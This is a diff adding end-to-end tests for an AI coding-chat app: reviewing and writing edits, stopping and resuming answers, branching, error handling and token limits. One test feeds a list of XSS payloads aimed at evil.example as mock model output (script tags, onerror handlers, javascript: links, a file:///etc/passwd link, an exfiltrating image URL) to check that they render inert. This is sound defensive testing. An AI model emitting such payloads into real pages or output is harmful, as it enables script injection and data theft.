@@ -1,0 +1,414 @@
+// Chats with a model that says what it is told: edits that are reviewed and written, branches, what breaks off and goes on, what is refused.
+
+import { globSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { describe, expect, it } from 'vitest'
+import { lantern, reply } from './testing/lantern.ts'
+import { chatOpener, questions } from './testing/open-chat.ts'
+import { pickModel } from './testing/steps.ts'
+
+const [plan = '', price = '', order = '', log = ''] = reply.split(/(?=<file )/)
+
+const words = (count: number) => `${'word '.repeat(count)}\n`
+
+const openChat = chatOpener({ git: true, files: { ...lantern, 'docs/long.md': words(40_000), 'docs/guide.md': words(9_000) } })
+
+describe('a chat that edits', () => {
+  it('shows files as they complete, has them reviewed and written, and sees them changed in the next turn', async () => {
+    const { app, page, server, message, send, mode, answers, answered, branch, asked } = await openChat()
+    server.reply({
+      says: ['<chatName="Round the total"/>\n', plan, price, order, { hold: 'log' }, log],
+      usage: { input: 1_200, output: 300 },
+    })
+    await mode('Act')
+    await send('Round the total.')
+    await expect.poll(() => message.inputValue()).toBe('')
+    const answer = answers.last()
+    await answer.getByText('2 files to change').waitFor()
+    await answer.getByRole('button', { name: /^Edit src\/price\.ts/ }).waitFor()
+    await answer.getByRole('button', { name: /^Edit src\/order\.ts/ }).waitFor()
+    expect(await answer.getByText('src/log.ts').count()).toBe(0)
+    const review = answer.getByRole('button', { name: 'Review changes' })
+    expect(await review.getAttribute('aria-disabled')).toBe('true')
+    await page.getByRole('heading', { name: 'Round the total', exact: true }).waitFor()
+
+    server.release('log')
+    await answered()
+    await answer.getByText('3 files to change').waitFor()
+    await answer.getByRole('button', { name: /^Create src\/log\.ts/ }).waitFor()
+    await answer.getByText('1.2k in · 300 out · $').waitFor()
+    expect((await branch()).at(-1)).toMatchObject({
+      state: 'done',
+      mode: 'act',
+      usage: { input: 1_200, output: 300 },
+      files: [
+        { path: 'src/price.ts', action: 'modify' },
+        { path: 'src/order.ts', action: 'modify' },
+        { path: 'src/log.ts', action: 'create' },
+      ],
+    })
+
+    await review.click()
+    await page.getByRole('button', { name: 'Merge Changes' }).click()
+    await page.getByRole('region', { name: 'Review' }).waitFor()
+    await page.getByRole('button', { name: 'Accept All Files' }).click()
+    await page.getByRole('button', { name: 'Write 3 files' }).waitFor()
+    expect([app.read('src/price.ts'), app.read('src/log.ts')]).toEqual([lantern['src/price.ts'], ''])
+    await page.getByRole('button', { name: 'Write 3 files' }).click()
+    await page.getByRole('dialog', { name: 'Write 3 files?' }).getByRole('button', { name: 'Write 3 files' }).click()
+    await page.getByText('3 files written').first().waitFor()
+    expect(app.read('src/price.ts')).toContain('  return Math.round(sum * 100) / 100\n')
+    expect(app.read('src/order.ts')).toContain('  if (order.lines.length === 0) return 0\n  return total(order)\n')
+    expect(app.read('src/log.ts')).toBe('export function log(line: string): void {\n  console.log(line)\n}\n')
+
+    await page.getByRole('tab', { name: 'Chat' }).click()
+    server.reply({ says: 'It rounds now.' })
+    await mode('Plan')
+    await send('What does it do now?')
+    await (await answered()).getByText('It rounds now.').waitFor()
+    const [first, second] = asked()
+    const [old, now] = [lantern['src/price.ts'] ?? '', app.read('src/price.ts')]
+    expect([first?.includes(old), first?.includes(now)]).toEqual([true, false])
+    expect([second?.includes(old), second?.includes(now)]).toEqual([false, true])
+    expect(second).toContain('Round the total.')
+    expect(app.complaints()).toEqual([])
+  })
+})
+
+describe('an answer', () => {
+  it('that is a plan edits nothing, whatever it holds', async () => {
+    const { app, page, server, send, answered, branch, asked } = await openChat()
+    server.reply({ says: `Let us round.\n\n${price}` })
+    await send('How would you round?')
+    const answer = await answered()
+    await answer.getByText('The answer holds edits although this is a plan.').waitFor()
+    expect(await answer.getByRole('button', { name: 'Review changes' }).count()).toBe(0)
+    expect((await branch()).at(-1)).toMatchObject({ mode: 'plan', state: 'done', text: `Let us round.\n\n${price}` })
+    expect((await branch()).at(-1)?.files).toBeUndefined()
+    const [question] = asked()
+    expect([question?.includes('nothing is edited'), question?.includes('action="modify"')]).toEqual([true, false])
+    expect(await page.getByRole('tab', { name: /^Apply/ }).textContent()).toBe('Apply')
+    expect(app.complaints()).toEqual([])
+  })
+
+  it('is stopped with what had come, and goes on from there as one answer', async () => {
+    const { app, page, server, send, answers, answered, branch, asked } = await openChat()
+    const lines = ['Rounding comes first, in the price.\n', 'The order asks for the total.\n', 'Both are covered by a test.\n']
+    server.reply({ says: [...lines, 'And this line is ne', { hold: 'never' }] })
+    await send('How would you round?')
+    await answers.last().getByText('And this line is ne').waitFor()
+    await page.getByRole('button', { name: 'Stop', exact: true }).click()
+    const answer = await answered()
+    await answer.getByText('You stopped it here.').waitFor()
+    await server.until(() => questions(server)[0]?.state === 'gone')
+    expect((await branch()).at(-1)).toMatchObject({ state: 'stopped', text: `${lines.join('')}And this line is ne` })
+
+    server.reply({ says: [`${lines.join('')}`, 'And this line is new.\n'] })
+    await answer.getByRole('button', { name: 'Continue from there' }).click()
+    await answer.getByText('And this line is new.').waitFor()
+    await answered()
+    expect(await answers.count()).toBe(1)
+    expect((await branch()).map(({ state, text }) => [state, text])).toEqual([
+      ['done', 'How would you round?'],
+      ['done', `${lines.join('')}And this line is new.\n`],
+    ])
+    expect(asked()[1]).toContain(lines.join(''))
+
+    server.reply({ says: ['One more', { hold: 'never' }] })
+    await send('And then?')
+    await answers.last().getByText('One more').waitFor()
+    await page.keyboard.press('Escape')
+    await answers.last().getByText('You stopped it here.').waitFor()
+    expect(app.complaints()).toEqual([])
+  })
+
+  it('in words where edits were asked for stays as it is, and the model can be asked for their form', async () => {
+    const { app, server, send, mode, mine, answers, answered, branch, asked } = await openChat()
+    server.reply({ says: 'I would round the sum in the price.' })
+    await mode('Act')
+    await send('Round the total.')
+    const first = await answered()
+    await first.getByText('No edits were found in this answer. It stays as a message.').waitFor()
+    expect(await first.getByRole('button', { name: 'Review changes' }).count()).toBe(0)
+
+    server.reply({ says: price })
+    await first.getByRole('button', { name: 'Ask for the edits in the right form' }).click()
+    await expect.poll(() => answers.count()).toBe(2)
+    await (await answered()).getByText('1 file to change').waitFor()
+    expect(await mine.count()).toBe(2)
+    expect((await branch()).map(({ from, noEdits, files }) => [from, noEdits, files])).toEqual([
+      ['you', undefined, undefined],
+      ['model', true, undefined],
+      ['you', undefined, undefined],
+      ['model', undefined, [{ path: 'src/price.ts', action: 'modify' }]],
+    ])
+    expect(asked()[1]).toContain('I would round the sum in the price.')
+    expect(app.complaints()).toEqual([])
+  })
+
+  it('survives a reload of the window, and the end of the host, in the middle of it', async () => {
+    const { app, page, server, send, answers, answered, branch, asked } = await openChat()
+    const lines = ['Rounding comes first, in the price.\n', 'The order asks for the total.\n', 'Both are covered by a test.\n']
+    server.reply({ says: [...lines, { hold: 'reload' }, 'This came after the reload.\n', 'And this line is ne', { hold: 'never' }] })
+    await send('How would you round?')
+    await answers.last().getByText('Both are covered by a test.').waitFor()
+    await page.reload()
+    await page.getByRole('tab', { name: 'Chat' }).click()
+    await answers.last().getByText('Both are covered by a test.').waitFor()
+    server.release('reload')
+    await answers.last().getByText('And this line is ne').waitFor()
+    await page.getByRole('button', { name: 'Stop', exact: true }).waitFor()
+
+    await expect.poll(() => isKept(app.home, 'And this line is ne')).toBe(true)
+    await app.restartHost()
+    const answer = await answered()
+    await answer.getByText('broke off').waitFor()
+    await answer.getByText('And this line is ne').waitFor()
+    const kept = `${lines.join('')}This came after the reload.\n`
+    server.reply({ says: [kept, 'And this line is new.\n'] })
+    await answer.getByRole('button', { name: 'Continue from there' }).click()
+    await answer.getByText('And this line is new.').waitFor()
+    await answered()
+    expect((await branch()).map(({ state, text }) => [state, text])).toEqual([
+      ['done', 'How would you round?'],
+      ['done', `${kept}And this line is new.\n`],
+    ])
+    expect(asked().length).toBe(2)
+    expect(app.complaints()).toEqual([])
+  })
+
+  it('that fails says why, keeps what had come, and is asked for again', async () => {
+    const { app, page, server, send, answers, answered, branch } = await openChat()
+    server.reply({ fault: { kind: 'status', status: 401, says: 'Incorrect API key provided: sk-right-0123456789abcdef-wxyz.' } })
+    await send('How would you round?')
+    const refused = await answered()
+    await refused.getByText('The provider did not accept the key.').waitFor()
+    expect(await refused.textContent()).not.toContain('0123456789abcdef')
+    await refused.getByRole('button', { name: 'Open API Keys' }).click()
+    await page.getByRole('dialog', { name: 'Settings' }).getByRole('tab', { name: 'API Keys', selected: true }).waitFor()
+    await page.keyboard.press('Escape')
+    server.reply({ says: 'Use cents.' })
+    await refused.getByRole('button', { name: 'Try again' }).click()
+    await answers.getByText('Use cents.').waitFor()
+    expect((await branch()).map(({ text }) => text)).toEqual(['How would you round?', 'Use cents.'])
+
+    server.reply({ says: 'First of all, one cou', fault: { kind: 'midway', how: 'reset' } })
+    await send('And then?')
+    const broken = await answered()
+    await broken.getByText('First of all, one cou').waitFor()
+    await broken.getByText('The answer broke off in the middle.').waitFor()
+    server.reply({ says: 'First of all, one could log it.' })
+    await broken.getByRole('button', { name: 'Try again' }).click()
+    await answers.last().getByText('First of all, one could log it.').waitFor()
+
+    server.reply({ fault: { kind: 'status', status: 429, says: 'Slow down.', headers: { 'retry-after': '50' } } })
+    await send('And last?')
+    await answers.last().getByRole('status').filter({ hasText: 'Asked again in' }).waitFor()
+    await page.getByRole('button', { name: 'Stop', exact: true }).click()
+    await (await answered()).getByText('You stopped it here.').waitFor()
+    expect(app.complaints()).toEqual([])
+  })
+
+  it('cannot do anything by itself: markup stays text, pictures stay unloaded, links ask first', async () => {
+    const { app, page, server, send, mode, answers, answered } = await openChat()
+    const hostile = [
+      '<chatName="<img src=x onerror=hack(1)>"/>',
+      '<script>document.title = "hacked"</script>',
+      '<img src="https://evil.example/a.png" onerror="document.title = `hacked`">',
+      '<iframe src="https://evil.example/b"></iframe> <svg onload="document.title = `hacked`"></svg>',
+      '<style>@import "https://evil.example/c.css";</style><base href="https://evil.example/">',
+      '[run](javascript:document.title=`hacked`) [data](data:text/html,<script>1</script>) [file](file:///etc/passwd)',
+      '![stolen](https://evil.example/d.png?of=you) [page](https://evil.example/e) <https://evil.example/f>',
+      '<a href="javascript:document.title=`hacked`">raw</a> <form action="https://evil.example/g"><button>Send</button></form>',
+      '```html\n<script>document.title = "hacked"</script>\n```',
+      '| <img src=x onerror=hack(1)> | b |\n|---|---|\n| [cell](JaVaScRiPt:hack(1)) | 2 |',
+      'The last line.',
+    ]
+    const title = await page.title()
+    server.reply({ says: [{ thinking: '<img src="https://evil.example/h.png">' }, hostile.join('\n\n')] })
+    await mode('Act')
+    await send('Say something <b onclick="hack()">bold</b> ![x](https://evil.example/i.png)')
+    const answer = await answered()
+    await answer.getByText('The last line.').waitFor()
+    await page.getByRole('heading', { name: '<img src=x onerror=hack(1)>' }).first().waitFor()
+    await answer.getByText('<script>document.title = "hacked"</script>').first().waitFor()
+    const inside = page
+      .getByRole('log', { name: 'Conversation' })
+      .locator('script, img, iframe, style, base, object, embed, form, a, b, [onclick]')
+    expect(await inside.count()).toBe(0)
+    const links = answer.getByRole('link')
+    const targets = await links.evaluateAll((all) => all.map((each) => each.getAttribute('title')))
+    expect(targets.every((target) => target?.startsWith('https://evil.example/'))).toBe(true)
+    await answer.getByRole('link', { name: 'page' }).click()
+    const asks = page.getByRole('alertdialog', { name: 'Open evil.example?' })
+    await asks.getByText('https://evil.example/e').waitFor()
+    await asks.getByRole('button', { name: 'Cancel' }).click()
+    await asks.waitFor({ state: 'detached' })
+    for (const words of ['run', 'data', 'file', 'raw', 'cell']) expect(await answers.getByRole('link', { name: words }).count()).toBe(0)
+    expect([await page.title(), app.context.pages().length]).toEqual([title, 1])
+    expect(app.complaints()).toEqual([])
+  })
+})
+
+describe('a conversation', () => {
+  it('grows branches where a message is edited or an answer asked for again, and turns back to any of them', async () => {
+    const { app, page, server, send, mine, answers, answered, branch, asked } = await openChat()
+    server.reply({ says: 'Use cents.' }, { says: 'Use Math.round.' })
+    await send('How would you round?')
+    await (await answered()).getByText('Use cents.').waitFor()
+    await send('And with a function?')
+    await (await answered()).getByText('Use Math.round.').waitFor()
+
+    await mine.first().hover()
+    await mine.first().getByRole('button', { name: 'Edit and send again' }).click()
+    const box = page.getByRole('textbox', { name: 'Edit the message' })
+    expect(await box.inputValue()).toBe('How would you round?')
+    await box.fill('How would you floor?')
+    server.reply({ says: 'Use Math.floor.' })
+    await box.press('Enter')
+    await (await answered()).getByText('Use Math.floor.').waitFor()
+    expect([await mine.count(), await answers.count()]).toEqual([1, 1])
+    await mine.getByRole('group', { name: 'Version 2 of 2' }).waitFor()
+    const third = asked()[2]
+    const said = ['How would you floor?', 'How would you round?', 'Use cents.']
+    expect(said.map((words) => third?.includes(words))).toEqual([true, false, false])
+
+    await mine.getByRole('button', { name: 'Previous version' }).click()
+    await answers.last().getByText('Use Math.round.').waitFor()
+    await mine.first().getByRole('group', { name: 'Version 1 of 2' }).waitFor()
+    expect((await branch()).map(({ text }) => text)).toEqual([
+      'How would you round?',
+      'Use cents.',
+      'And with a function?',
+      'Use Math.round.',
+    ])
+
+    server.reply({ says: 'Use toFixed.' })
+    await answers.last().getByRole('button', { name: 'Ask again' }).click()
+    await answers.last().getByText('Use toFixed.').waitFor()
+    await answered()
+    await answers.last().getByRole('group', { name: 'Answer 2 of 2' }).waitFor()
+    expect(asked()[3]).not.toContain('Use Math.round.')
+    await answers.last().getByRole('button', { name: 'Previous answer' }).click()
+    await answers.last().getByText('Use Math.round.').waitFor()
+    await page.reload()
+    await page.getByRole('tab', { name: 'Chat' }).click()
+    await answers.last().getByText('Use Math.round.').waitFor()
+    expect((await branch()).length).toBe(4)
+    expect(app.complaints()).toEqual([])
+  })
+
+  it('is named by the model until a person names it, is found by its words, and is saved as Markdown', async () => {
+    const { app, page, server, send, answered, message, workspace } = await openChat()
+    server.reply({ says: '<chatName="Pears and cents"/>\nUse cents, as the *Gärtner* does.' }, { says: 'Use a log.' })
+    await send('How would you round?')
+    await answered()
+    const name = page.getByRole('heading', { name: 'Pears and cents' })
+    await name.waitFor()
+    await page.getByRole('button', { name: 'New conversation' }).first().click()
+    await name.waitFor({ state: 'detached' })
+    await send('How would you log?')
+    await answered()
+    await page.getByRole('button', { name: 'More for this conversation' }).click()
+    await page.getByRole('menuitem', { name: 'Rename' }).click()
+    const field = page.getByRole('textbox', { name: 'Name of the conversation' })
+    await field.fill('Logging <b>')
+    await field.press('Enter')
+    await page.getByRole('heading', { name: 'Logging <b>' }).waitFor()
+    server.reply({ says: '<chatName="Another name"/>\nStill a log.' })
+    await send('Sure?')
+    await (await answered()).getByText('Still a log.').waitFor()
+    await page.getByRole('heading', { name: 'Logging <b>' }).waitFor()
+
+    await page.getByRole('button', { name: 'Show the conversations' }).click()
+    const list = page.getByRole('navigation', { name: 'Conversations' })
+    const rows = list.getByRole('listitem')
+    await expect.poll(() => rows.count()).toBe(2)
+    const search = list.getByRole('searchbox', { name: 'Search conversations' })
+    await search.fill('gärtner')
+    await expect.poll(() => rows.count()).toBe(1)
+    await rows.filter({ hasText: 'Pears and cents' }).filter({ hasText: 'Gärtner' }).waitFor()
+    await search.fill('nothing of the kind')
+    await list.getByText('Nothing found').waitFor()
+    await search.fill('pears')
+    await rows.filter({ hasText: 'Pears and cents' }).getByRole('button').first().click()
+    await name.waitFor()
+
+    const download = page.waitForEvent('download')
+    await page.getByRole('button', { name: 'More for this conversation' }).click()
+    await page.getByRole('menuitem', { name: 'Save as Markdown' }).click()
+    const saved = await download
+    expect(saved.suggestedFilename()).toBe('Pears-and-cents.md')
+    const chunks: Buffer[] = []
+    for await (const chunk of await saved.createReadStream()) chunks.push(chunk)
+    const cards = await app.host['chats.list']({ workspace })
+    const chat = cards.find((card) => card.name === 'Pears and cents')?.id ?? ''
+    const text = Buffer.concat(chunks).toString('utf8')
+    expect(text).toBe(await app.host['chats.export']({ workspace, chat }))
+    expect(text).toMatch(/^# Pears and cents\n\n## You\n.*How would you round\?.*Use cents, as the \*Gärtner\* does\.\n$/s)
+
+    await message.fill('half a thou')
+    await search.fill('')
+    await rows.filter({ hasText: 'Logging <b>' }).getByRole('button').first().click()
+    await page.getByRole('heading', { name: 'Logging <b>' }).waitFor()
+    expect(await message.inputValue()).toBe('')
+    await rows.filter({ hasText: 'Pears and cents' }).getByRole('button').first().click()
+    await expect.poll(() => message.inputValue()).toBe('half a thou')
+    await page.getByRole('button', { name: 'More for this conversation' }).click()
+    await page.getByRole('menuitem', { name: 'Delete…' }).click()
+    await page.getByRole('alertdialog', { name: 'Delete this conversation?' }).getByRole('button', { name: 'Delete' }).click()
+    await expect.poll(() => rows.count()).toBe(1)
+    expect((await app.host['chats.list']({ workspace })).map((card) => card.name)).toEqual(['Logging <b>'])
+    expect(app.complaints()).toEqual([])
+  })
+})
+
+describe('what is too much', () => {
+  it('for the free tier is said before it is sent, with what to take out', async () => {
+    const { app, page, server, send, message, select, answered, asked } = await openChat()
+    await select('docs/long.md', 'src/order.ts')
+    await message.fill('Shorten it.')
+    const against = page.getByRole('region', { name: 'Cannot be sent as it is' })
+    await against.getByText('The free tier stops at 32k tokens.').waitFor()
+    await message.press('Enter')
+    await page.getByRole('alert').filter({ hasText: 'The free tier stops at 32k tokens.' }).waitFor()
+    expect([asked().length, await message.inputValue()]).toEqual([0, 'Shorten it.'])
+    await page.getByRole('button', { name: 'Dismiss' }).click()
+    await against.getByRole('button', { name: 'Unselect docs/long.md' }).click()
+    await against.waitFor({ state: 'detached' })
+    server.reply({ says: 'It is short.' })
+    await send('Shorten it.')
+    await (await answered()).getByText('It is short.').waitFor()
+    expect(asked().map((question) => question.includes('word word'))).toEqual([false])
+    expect(app.complaints()).toEqual([])
+  })
+
+  it('for the model is said before it is sent, with what to take out', async () => {
+    const { app, page, server, send, message, select, answered, asked } = await openChat()
+    server.change({ models: ['llama3.2:3b'] })
+    await app.host['providers.save']({ id: 'ollama', values: { baseUrl: `${server.url}/ollama` } })
+    await select('docs/guide.md', 'src/order.ts')
+    await pickModel(page, 'Model', 'llama3.2')
+    await message.fill('Shorten it.')
+    const against = page.getByRole('region', { name: 'Cannot be sent as it is' })
+    await against.getByText('That is more than the model takes in.').waitFor()
+    await against.getByText('The largest files: docs/guide.md (').waitFor()
+    await message.press('Enter')
+    await page.getByRole('alert').filter({ hasText: 'That is more than the model takes in.' }).waitFor()
+    expect(asked()).toEqual([])
+    await page.getByRole('button', { name: 'Dismiss' }).click()
+    await against.getByRole('button', { name: 'Unselect docs/guide.md' }).click()
+    await against.waitFor({ state: 'detached' })
+    server.reply({ says: 'It is short.' })
+    await send('Shorten it.')
+    await (await answered()).getByText('It is short.').waitFor()
+    expect(questions(server).map(({ protocol, model }) => [protocol, model])).toEqual([['ollama', 'llama3.2:3b']])
+    await pickModel(page, 'Model', 'gpt-4.1', 'GPT-4.1')
+    expect(app.complaints()).toEqual([])
+  })
+})
+
+/** As another process finds it on disk. */
+function isKept(home: string, words: string): boolean {
+  return globSync('chats.db*', { cwd: home }).some((file) => readFileSync(join(home, file)).includes(words))
+}
